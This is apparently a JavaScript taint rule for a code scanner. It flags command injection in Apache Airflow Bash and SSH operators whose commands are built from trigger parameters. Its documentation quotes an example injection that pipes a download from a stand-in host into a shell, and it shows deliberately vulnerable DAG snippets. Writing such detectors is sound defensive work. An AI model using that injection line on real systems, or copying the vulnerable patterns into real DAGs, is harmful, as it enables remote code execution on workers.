import { lastName } from '../support/name-triggers.js';
import { levelTable, taintRule } from '../support/taint-rule.js';
import { argument } from '../../python/arguments.js';
import { HOLE } from '../../python/literals.js';
/** Airflow operators that run their command through bash → the parameter holding it. */
const BASH_OPERATORS = {
    'airflow.operators.bash.BashOperator': 'bash_command',
    'airflow.operators.bash_operator.BashOperator': 'bash_command',
    'airflow.providers.standard.operators.bash.BashOperator': 'bash_command',
    'airflow.providers.ssh.operators.ssh.SSHOperator': 'command',
    'airflow.contrib.operators.ssh_operator.SSHOperator': 'command',
};
/**
 * Jinja fields whoever triggers the DAG run writes (`airflow dags trigger --conf`, the REST API, the UI form): pasted
 * into a bash command they run as the worker.
 */
const TRIGGER_FIELDS = /\{\{[^}]*\b(dag_run\.conf|params)\b/;
const LEVELS = levelTable({
    request: { severity: 'high', confidence: 'high' },
    'user-input': { severity: 'high', confidence: 'medium' },
    'stored-input': { severity: 'high', confidence: 'medium' },
    parameter: { severity: 'medium', confidence: 'low' },
});
/** The command's constant text (holes removed), when it folds. */
function constantText(value, module) {
    const shape = module.fold(value);
    return shape ? shape.text.split(HOLE).join('') : undefined;
}
/** The command of a bash or SSH operator: a trigger field in its template is a finding as it is; else its trace decides. */
function bashCommand(node, module) {
    const name = module.callName(node) ?? '';
    const parameter = Object.hasOwn(BASH_OPERATORS, name) ? BASH_OPERATORS[name] : undefined;
    const command = parameter ? argument(node, parameter, null) : undefined;
    if (!command)
        return undefined;
    const text = constantText(command, module);
    if (text !== undefined && TRIGGER_FIELDS.test(text)) {
        const field = TRIGGER_FIELDS.exec(text)[1];
        return { fixed: { node, severity: 'high', confidence: 'medium', message: `${lastName(name)} renders {{ ${field} }} (set by whoever triggers the DAG run) into a bash command (command injection)` } };
    }
    return { value: command, describe: (source) => `${lastName(name)} command built from ${source} (command injection)` };
}
export default taintRule({
    id: 'airflow-bash-command-injection',
    aliases: [],
    category: 'command-injection',
    cwe: 78,
    severity: 'high',
    confidence: 'medium',
    cost: 'deep',
    message: 'Airflow bash command built from trigger parameters or run-time strings: the text runs as a shell script on the worker',
    fix: 'Pass run-time values through `env={"NAME": "{{ dag_run.conf[\'name\'] }}"}` and quote them in the script (`bash_command=\'echo "$NAME"\'`), or use a PythonOperator with an argument list.',
    triggers: [...new Set(Object.keys(BASH_OPERATORS).map(lastName))],
    callees: [...new Set(Object.keys(BASH_OPERATORS).map(lastName))],
    docs: {
        why: 'BashOperator hands `bash_command` to bash after rendering it as a Jinja template. `{{ dag_run.conf[...] }}` and `{{ params... }}` '
            + 'are written by whoever triggers the run (CLI `--conf`, REST API, UI form): rendered into the script, `; curl evil | sh` runs on the '
            + 'worker with its credentials. Python formatting of run-time values into the command is the same hole. The rule reports trigger '
            + 'fields in the template (high severity, medium confidence) and formatted values traced to request data, the command line or a parameter.',
        bad: [
            'from airflow.operators.bash import BashOperator\ngreet = BashOperator(task_id="greet", bash_command="echo {{ dag_run.conf[\'name\'] }}")\n',
            'from airflow.operators.bash import BashOperator\ndef copy_task(source):\n    return BashOperator(task_id="copy", bash_command=f"cp {source} /data/in")\n',
        ],
        good: [
            'from airflow.operators.bash import BashOperator\ngreet = BashOperator(task_id="greet", bash_command=\'echo "$NAME"\', env={"NAME": "{{ dag_run.conf[\'name\'] }}"})\n',
            'from airflow.operators.bash import BashOperator\nreport = BashOperator(task_id="report", bash_command="python /opt/jobs/report.py --date {{ ds }}")\n',
        ],
        references: ['https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html', 'https://cwe.mitre.org/data/definitions/78.html'],
    },
    sinkClass: 'shell',
    levels: LEVELS,
    match: { call: bashCommand },
});
